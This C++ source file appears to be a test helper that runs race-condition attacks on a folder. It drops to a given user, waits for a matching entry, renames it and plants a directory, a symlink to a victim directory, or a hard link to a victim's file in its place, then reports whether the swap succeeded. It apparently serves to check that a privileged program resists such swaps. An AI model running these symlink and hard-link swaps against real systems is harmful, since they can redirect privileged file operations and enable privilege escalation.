// swapper UID FOLDER PREFIX DELAY_US ACTION VICTIM REPORT: attacks an entry of a folder.
//
// Becomes user UID, waits for an entry of FOLDER whose name begins with PREFIX, waits DELAY_US, moves the entry to
// NAME.stolen, and puts something else in its place:
//
//   rename    a directory with a file "planted"
//   symlink   a symbolic link to the directory VICTIM
//   hardlink  a directory with a hard link to VICTIM/table
//
// REPORT then holds the name and "done", or the errno of what was refused.

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

std::string entry_of(const char* folder, const char* prefix) {
  for (;;) {
    DIR* directory = opendir(folder);
    while (const dirent* entry = directory ? readdir(directory) : nullptr) {
      const std::string name = entry->d_name;
      if (name[0] == '.' || name.compare(0, std::strlen(prefix), prefix) != 0) continue;
      closedir(directory);
      return name;
    }
    if (directory) closedir(directory);
  }
}

bool attack(const std::string& path, const std::string& action, const std::string& victim) {
  if (rename(path.c_str(), (path + ".stolen").c_str()) != 0) return false;
  if (action == "symlink") return symlink(victim.c_str(), path.c_str()) == 0;
  if (mkdir(path.c_str(), 0700) != 0) return false;
  if (action == "hardlink") return link((victim + "/table").c_str(), (path + "/table").c_str()) == 0;
  return close(open((path + "/planted").c_str(), O_CREAT | O_WRONLY, 0600)) == 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 8) return 2;
  // Opened as root: the other user may not write where the report goes.
  FILE* report = std::fopen(argv[7], "we");
  const auto uid = static_cast<uid_t>(std::atoi(argv[1]));
  if (report == nullptr || setgid(uid) != 0 || setuid(uid) != 0) return 2;
  const std::string name = entry_of(argv[2], argv[3]);
  usleep(static_cast<useconds_t>(std::atoi(argv[4])));
  const bool done = attack(std::string(argv[2]) + '/' + name, argv[5], argv[6]);
  std::fprintf(report, "%s %s\n", name.c_str(), done ? "done" : std::strerror(errno));
  return std::fclose(report) == 0 ? 0 : 2;
}
